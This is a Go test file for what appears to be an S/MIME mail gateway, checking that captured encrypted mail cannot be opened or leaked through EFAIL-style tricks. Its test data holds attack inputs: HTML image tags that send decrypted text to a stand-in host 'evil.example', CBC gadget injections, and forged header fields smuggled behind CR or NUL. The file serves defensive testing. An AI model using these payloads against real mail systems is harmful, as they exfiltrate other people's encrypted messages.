package spoof_test

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"mailseal/internal/gateway"
	"mailseal/internal/message"
	"mailseal/internal/policy"
	"mailseal/internal/testpki/forge"
	"mailseal/internal/verdict"
	"mailseal/test/wire"
)

const carol = "carol@example.jp" // ours, and Mallory's accomplice

// secret is what Alice encrypted for Bob, and Mallory captured on the way.
const (
	secret   = "PIN 4711 is good"
	captured = "Content-Type: text/plain; charset=us-ascii\n\nThe vault:      \n" + secret + "\n"
)

// A capture is a mail that is made of an encrypted one.
type capture struct {
	class  string
	name   string
	mail   string // lines end in LF
	to     []string
	want   verdict.Status
	opened bool // the secret is in what is delivered
	// wrapped: what Mallory put round it is not there any more; the secret is in
	// what is left, and encrypted.
	wrapped bool
	logged  string // in our log
	lacks   string // in what is delivered
}

func captures(w *world) []capture {
	return slices.Concat(exfiltrations(w), malleations(w), resendings(w), contents(w))
}

// TestCaptured: Mallory has mails that were encrypted for Bob.
func TestCaptured(t *testing.T) {
	w := newWorld(t)
	b := newBench(t, w)
	opened := map[string]int{}
	for _, c := range captures(w) {
		opened[c.class] += 0
		if c.opened {
			opened[c.class]++
		}
		t.Run(c.class+" "+c.name, func(t *testing.T) {
			to := c.to
			if to == nil {
				to = []string{bob}
			}
			d := b.deliver(t, []byte(crlf(c.mail)), to...)
			c.judged(t, d)
			if t.Failed() {
				t.Logf("log: %s\nresult: %s\nmail: %s", d.log, d.json, d.mail)
			}
		})
	}
	for class, n := range opened {
		if n == 0 {
			t.Errorf("nothing in class %s was opened", class)
		}
	}
}

// judged checks that the secret is where it may be, and nowhere else.
func (c capture) judged(t *testing.T, d delivery) {
	t.Helper()
	if d.outcome.Verdict.Action != message.Accept {
		t.Fatalf("%v, %v", d.outcome.Verdict.Action, d.outcome.Err)
	}
	d.judged(t, attack{want: c.want})
	if strings.Contains(d.log, secret) || strings.Contains(d.json, secret) {
		t.Errorf("the secret is in %q or %s", d.log, d.json)
	}
	if !strings.Contains(d.log, c.logged) {
		t.Errorf("no %q in %q", c.logged, d.log)
	}
	if c.wrapped {
		if strings.Contains(string(d.mail), secret) || !strings.Contains(string(d.mail), "application/pkcs7-mime") {
			t.Error("it was opened")
		}
		return
	}
	if !c.opened {
		d.kept(t, nil)
		return
	}
	if !strings.Contains(string(d.mail), secret) {
		t.Error("it was not opened")
	}
	fields, body := wire.Split(d.mail)
	if c.lacks != "" && strings.Contains(strings.Join(fields, "\n"), c.lacks) {
		t.Errorf("%q is in the header: %q", c.lacks, fields)
	}
	if n := strings.Count(body, secret); n != 1 {
		t.Errorf("the secret is there %d times", n)
	}
}

// exfiltrations put what was captured among words of Mallory's that send it
// somewhere when it is shown.
func exfiltrations(w *world) (list []capture) {
	add := func(name, entity string) {
		list = append(list, capture{class: "E1", name: name, mail: mail(mallory, entity), want: verdict.None})
	}
	for _, gcm := range []bool{false, true} {
		s := w.seal(crlf(captured), gcm, w.bob)
		how := map[bool]string{false: "CBC", true: "GCM"}[gcm]
		e := s.entity()
		html := func(s string) string { return "Content-Type: text/html\n\n" + s + "\n" }
		before, behind := html(`<img src="http://evil.example/`), html(`">`)
		list = append(list, capture{class: "E1", name: how + " as it should be", mail: mail(alice, e), want: verdict.None, opened: true})
		for _, kind := range []string{"mixed", "related", "alternative", "parallel", "signed", "encrypted", "x"} {
			m := mixed(kind, before, e, behind)
			c := capture{class: "E1", name: how + " in multipart/" + kind, mail: mail(mallory, m), want: verdict.None}
			if kind == "signed" {
				c.want = verdict.Neutral
			}
			list = append(list, c)
		}
		add(how+" alone in multipart/mixed", mixed("mixed", e))
		add(how+" attached", mixed("mixed", before, "Content-Disposition: attachment; filename=smime.p7m\n"+e))
		add(how+" forwarded", mixed("mixed", before, "Content-Type: message/rfc822\n\n"+mail(alice, e)))
		add(how+" as the only content", "Content-Type: message/rfc822\n\n"+mail(alice, e))
		add(how+" two levels further in", mixed("mixed", before, strings.ReplaceAll(mixed("mixed", e), "=_m", "=_n"), behind))
		add(how+" as a text", "Content-Type: text/html\n\n"+b64(s.der()))
		// Header and text are one to readers for whom the header ends early.
		for _, f := range []string{
			"X: y\n \n <img src=\"http://evil.example/", "X: y\r\r<img src=\"http://evil.example/", "X: y\r<img src=\"http://evil.example/", "<img src=\"http://evil.example/", "X : <img src=\"http://evil.example/",
			"X: y\rContent-Type: text/html",
		} {
			list = append(list, capture{class: "E1", name: how + " below " + f, mail: instead(mail(mallory, e), "Subject: payment", "Subject: payment\n"+f), want: verdict.None})
		}
		around := mixed("mixed", before, e, behind)
		list = append(list, capture{
			class: "E1", name: how + " under a signature", want: verdict.Pass, // over what Mallory wrote, and says nothing of the rest
			mail: mail(mallory, clearSigned(around, over(around, by(w.mallory)))),
		})
		list = append(list, capture{class: "E1", name: how + " under an opaque signature", want: verdict.Pass, mail: mail(mallory, opaque(inside(around, by(w.mallory))))})
	}
	return list
}

// malleations change what was captured without a key.
func malleations(w *world) (list []capture) {
	const class, start = "E2", "MIME-Version:1\n\n"
	add := func(name string, s sealed, opened bool, logged string) {
		list = append(list, capture{class: class, name: name, mail: mail(mallory, s.entity()), want: verdict.None, opened: opened, logged: logged})
	}
	plain := crlf(captured)
	known := plain[:16]
	cbc, gcm := w.seal(plain, false, w.bob), w.seal(plain, true, w.bob)
	const none = "integrity=none"
	add("CBC as it is", cbc, true, none)
	add("GCM as it is", gcm, true, "integrity=")
	add("CBC with words of Mallory's", cbc.gadget(known, start, "\n<img src=\"//e/  ", "\n<a href=\"//evil/"), true, none)
	for name, change := range map[string]func(*sealed){
		"a bit of the tag":            func(s *sealed) { s.tag[0] ^= 1 },
		"a bit of the text":           func(s *sealed) { s.ciphertext[20] ^= 1 },
		"a bit of the nonce":          func(s *sealed) { s.algorithm[len(s.algorithm)-5] ^= 1 },
		"a short tag":                 func(s *sealed) { s.tag = s.tag[:4] },
		"no tag":                      func(s *sealed) { s.tag = []byte{} },
		"the end cut off":             func(s *sealed) { s.ciphertext = s.ciphertext[:16] },
		"nothing left":                func(s *sealed) { s.ciphertext = nil },
		"as CBC with the tag dropped": func(s *sealed) { s.tag, s.kind = nil, cbc.kind },
	} {
		s := gcm
		s.tag, s.ciphertext, s.algorithm = slices.Clone(s.tag), slices.Clone(s.ciphertext), slices.Clone(s.algorithm)
		change(&s)
		add("GCM, "+name, s, false, "")
	}
	blocks := cbc
	blocks.ciphertext = blocks.ciphertext[:48]
	add("CBC cut off at a block", blocks, false, "")
	blocks.ciphertext = blocks.ciphertext[:47]
	add("CBC cut off within a block", blocks, false, "")
	blocks.ciphertext = nil
	add("CBC, nothing left", blocks, false, "")
	// GCM as CBC: what is in the second block shows whether a guess is right.
	add("GCM as CBC, a wrong guess", gcm.asCBC(known, start, "xxxxxxxxxxxxxxxx"), false, "")
	return list
}

// resendings are what was captured, as it is, to others and from others.
func resendings(w *world) (list []capture) {
	add := func(name string, from string, s sealed, opened bool, to ...string) {
		list = append(list, capture{class: "E3", name: name, mail: mail(from, s.entity()), to: to, want: verdict.None, opened: opened})
	}
	for _, gcm := range []bool{false, true} {
		how := map[bool]string{false: "CBC", true: "GCM"}[gcm]
		s := w.seal(crlf(captured), gcm, w.bob)
		add(how+" to Bob", alice, s, true, bob)
		add(how+" to Bob, his domain in capitals", alice, s, true, "bob@EXAMPLE.JP")
		add(how+" to Carol", alice, s, false, carol)
		add(how+" to Carol and Bob", alice, s, false, carol, bob)
		add(how+" to Bob and Carol", alice, s, false, bob, carol)
		add(how+" to somebody without a key", alice, s, false, "dave@example.jp")
		add(how+" to Bob and outside", alice, s, false, bob, mallory)
		add(how+" outside", alice, s, false, mallory)
		add(how+" to Bob at another domain", alice, s, false, "bob@evil.example")
		add(how+" to Bob below our domain", alice, s, false, "bob@sub.example.jp")
		add(how+" to an address that is Bob's to some", alice, s, false, "bob+carol@example.jp")
		add(how+" to Bob by a route", alice, s, false, "bob%example.jp@evil.example")
		add(how+" to Bob, quoted with a blank", alice, s, false, `"bob "@example.jp`)
		add(how+" to nobody", alice, s, false, "")
		both := w.seal(crlf(captured), gcm, w.bob, w.carol)
		add(how+" for both, to both", alice, both, true, bob, carol)
		add(how+" for both, to Carol", alice, both, true, carol)
		// Mallory adds a RecipientInfo for Carol that she made herself.
		other := w.seal("x", gcm, w.carol)
		added := s
		added.infos = append(slices.Clone(s.infos), other.infos...)
		add(how+" with another key added, to Carol", alice, added, false, carol)
		add(how+" with another key added, to both", alice, added, false, bob, carol)
		added.infos = other.infos
		add(how+" with another key instead", alice, added, false, bob)
		// What Mallory puts round it opens, and no more.
		around := func(entity string, to ...*forge.Issued) sealed { return w.seal(crlf(entity), gcm, to...) }
		wrapped := func(name string, outer sealed, want verdict.Status, to ...string) {
			list = append(list, capture{class: "E3", name: how + " " + name, mail: mail(alice, outer.entity()), to: to, want: want, wrapped: true})
		}
		wrapped("for Carol, encrypted again for Bob", around(s.entity(), w.carol), verdict.None, carol)
		wrapped("for Bob, encrypted again for both, to both", around(s.entity(), w.bob, w.carol), verdict.None, bob, carol)
		wrapped("among words of Mallory's, encrypted again", around(mixed("mixed", forged, s.entity(), forged), w.bob), verdict.None)
		wrapped("forwarded, encrypted again", around("Content-Type: message/rfc822\n\n"+mail(alice, s.entity()), w.bob), verdict.None)
		wrapped("signed by Mallory, encrypted again", around(clearSigned(s.entity(), over(s.entity(), by(w.mallory))), w.bob), verdict.Policy)
		add(how+" encrypted again for Bob", alice, around(s.entity(), w.bob), true)
	}
	return list
}

// contents are what is in an encrypted mail. Anybody can encrypt for Bob: what
// comes out says nothing of who did.
func contents(w *world) (list []capture) {
	for _, gcm := range []bool{false, true} {
		how := map[bool]string{false: "CBC ", true: "GCM "}[gcm]
		add := func(name, from, inner string, want verdict.Status, lacks string) {
			list = append(list, capture{class: "E4", name: how + name, mail: mail(from, w.seal(crlf(inner), gcm, w.bob).entity()), want: want, opened: true, lacks: lacks})
		}
		signed := func(by *forge.Issued) string { return clearSigned(captured, over(captured, signer{who: by})) }
		add("signed by Alice", alice, signed(w.alice), verdict.Pass, "")
		add("signed by Alice, from Mallory", mallory, signed(w.alice), verdict.Policy, "")
		add("signed by Mallory, from Alice", alice, signed(w.mallory), verdict.Policy, "")
		add("changed after it was signed", alice, strings.Replace(signed(w.alice), "The vault:", "The VAULT:", 1), verdict.Fail, "")
		add("signed in a part", alice, mixed("mixed", forged, signed(w.alice)), verdict.None, "")
		for name, field := range map[string]string{
			"our results":     "Authentication-Results: " + ours + "; smime=pass body.smime-identifier=" + alice,
			"others' results": "Authentication-Results: other.example; dkim=pass",
			"an author":       "From: " + alice,
			"a sender":        "Sender: " + alice,
			"a subject":       "Subject: [signed OK]",
			"a field of ours": "X-Mailseal-Result: pass",
			"a trace":         "Received: from trusted.example.jp by " + ours + "; now",
			"a status":        "X-Spam-Status: No",
		} {
			add("with "+name, mallory, field+"\n"+captured, verdict.None, field)
			add("with "+name+", protected", mallory, field+"\n"+instead(captured, "us-ascii", "us-ascii; hp=cipher"), verdict.None, field)
		}
		// No MTA could carry these.
		for name, field := range map[string]string{
			"CR": "Content-Description: x\rAuthentication-Results: " + ours + "; smime=pass", "NUL": "Content-X: x\x00Authentication-Results: " + ours + "; smime=pass",
		} {
			list = append(list, capture{class: "E4", name: how + "with a field behind " + name, mail: mail(mallory, w.seal(crlf(field+"\n"+captured), gcm, w.bob).entity()), want: verdict.None})
		}
		// Mallory takes Alice's signature off and puts hers on, or takes hers
		// for the whole of what is Alice's.
		inner := w.seal(crlf(captured), gcm, w.bob).entity()
		resigned := func(from string, entity string, want verdict.Status) {
			list = append(list, capture{class: "E4", name: how + "signed again by Mallory, from " + from, mail: mail(from, clearSigned(entity, over(entity, by(w.mallory)))), want: want, opened: true})
			list = append(list, capture{class: "E4", name: how + "signed again by Mallory, opaque, from " + from, mail: mail(from, opaque(inside(entity, by(w.mallory)))), want: want, opened: true})
		}
		resigned(mallory, inner, verdict.None)
		resigned(alice, inner, verdict.None)
	}
	return list
}

// Whatever is put into an encrypted mail: nobody but Bob gets the secret, and he gets
// what was encrypted with nothing of Mallory's in it, or the mail as it came.
func TestOpenedAsEncrypted(t *testing.T) {
	w := newWorld(t)
	b := newBench(t, w)
	inner := crlf(captured)
	_, body, _ := strings.Cut(inner, "\r\n\r\n")
	m := crlf(mail(mallory, w.seal(inner, true, w.bob).entity()))
	if d := b.deliver(t, []byte(m), bob); !strings.HasSuffix(string(d.mail), "\r\n\r\n"+body) {
		t.Fatalf("a good mail: %s", d.mail)
	}
	opened := 0
	rapid.Check(t, func(rt *rapid.T) {
		changed := changed(rt, m)
		to := rapid.SampledFrom([][]string{{bob}, {bob}, {carol}, {bob, carol}, {mallory}, {bob, mallory}}).Draw(rt, "to")
		d := b.deliver(t, []byte(changed), to...)
		if !strings.Contains(string(d.mail)+d.log+d.json, secret) {
			return
		}
		opened++
		// A header may have line ends of another kind than the body.
		head, got, _ := strings.Cut(strings.ReplaceAll(string(d.mail), "\r\n", "\n"), "\n\n")
		if len(to) > 1 || to[0] != bob {
			rt.Fatalf("it is opened for %q: %s", to, d.mail)
		}
		if crlf(got) != body || strings.Contains(d.log+d.json, secret) {
			rt.Fatalf("%q became %q, %s, %s", changed, d.mail, d.log, d.json)
		}
		for _, f := range wire.Fields(crlf(head)) {
			if strings.HasPrefix(wire.Name(f), "content-") && !strings.HasPrefix(inner, f+"\r\n") {
				rt.Fatalf("%q is not of what was encrypted", f)
			}
		}
	})
	t.Logf("%d opened", opened)
}

// sizes are what differs by some characters of keys, and by time.
var sizes = regexp.MustCompile(` (size|ms)=[0-9]+`)

// Whatever is wrong, it is said in the same words: a wrong key, bad padding, a bad
// tag, and text that is no mail (RFC 3218). Whether a mail was opened is not said
// to the other side at all, as long as the postmaster does not reject those that
// cannot be.
func TestFailuresAreAlike(t *testing.T) {
	w := newWorld(t)
	plain := crlf(captured)
	noise := strings.Repeat("no field here, only words\n", 4)[:len(plain)]
	for _, treatment := range []policy.Treatment{policy.Deliver, policy.Tag, policy.Quarantine, policy.Reject} {
		b := newBench(t, w, func(c *gateway.Config) { c.Policy.OnDecryptFail, c.Policy.DecryptFailTag = treatment, "[locked]" })
		send := func(s sealed) delivery { return b.deliver(t, []byte(crlf(mail(alice, s.entity()))), bob) }
		for _, gcm := range []bool{false, true} {
			good, other := w.seal(plain, gcm, w.bob), w.seal(plain, gcm, w.bob)
			wrong, broken := good, good
			wrong.infos, broken.ciphertext = other.infos, slices.Clone(good.ciphertext)
			broken.ciphertext[len(broken.ciphertext)-17] ^= 0x80 // of CBC's padding
			var first delivery
			for i, s := range []sealed{wrong, broken, w.seal(noise, gcm, w.bob)} {
				d := send(s)
				if i == 0 {
					first = d
				}
				same := func(f func(delivery) string) bool {
					return sizes.ReplaceAllString(f(d), "") == sizes.ReplaceAllString(f(first), "")
				}
				reply := func(d delivery) string { return fmt.Sprint(d.outcome.Verdict.Action, d.outcome.Verdict.Reply) }
				if !same(func(d delivery) string { return d.log }) || !same(func(d delivery) string { return d.json }) || !same(reply) {
					t.Errorf("%v, GCM %v, %d: %s %s %s; the first: %s %s %s", treatment, gcm, i, d.log, d.json, reply(d), first.log, first.json, reply(first))
				}
				if treatment == policy.Deliver {
					d.kept(t, nil)
				}
			}
			if d := send(good); !strings.Contains(string(d.mail), secret) {
				t.Errorf("%v, GCM %v: a good one is not opened: %s", treatment, gcm, d.log)
			}
		}
		if treatment == policy.Reject {
			continue
		}
		gcm := w.seal(plain, true, w.bob)
		for _, guess := range []string{plain[16:32], "another guess..."} {
			d := send(gcm.asCBC(plain[:16], "MIME-Version:1\n\n", guess))
			if v := d.outcome.Verdict; v.Reply.Code != 0 {
				t.Errorf("%v: the guess %q is answered: %v", treatment, guess, v.Reply)
			}
			if strings.Contains(string(d.mail)+d.log+d.json, secret) {
				t.Errorf("%v: the guess %q makes the secret come out", treatment, guess)
			}
		}
	}
}
